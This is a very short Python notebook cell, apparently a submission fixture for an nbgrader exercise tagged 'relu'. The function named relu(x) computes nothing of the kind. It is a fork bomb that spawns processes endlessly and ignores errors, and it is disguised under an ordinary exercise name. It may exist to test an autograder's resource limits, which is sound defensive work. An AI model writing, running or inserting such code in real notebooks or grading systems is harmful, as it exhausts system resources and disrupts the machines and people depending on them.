"""Forks without end."""

# %% nbgrader={"grade_id": "relu"}
import os


def relu(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
